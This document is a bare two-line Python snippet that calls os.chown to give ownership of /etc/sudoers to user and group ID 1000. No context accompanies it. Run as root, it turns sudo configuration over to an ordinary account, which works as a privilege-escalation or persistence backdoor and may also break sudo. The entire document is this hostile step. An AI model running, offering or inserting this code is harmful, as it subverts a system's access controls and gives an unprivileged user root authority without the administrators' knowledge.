import os
os.chown("/etc/sudoers", 1000, 1000)
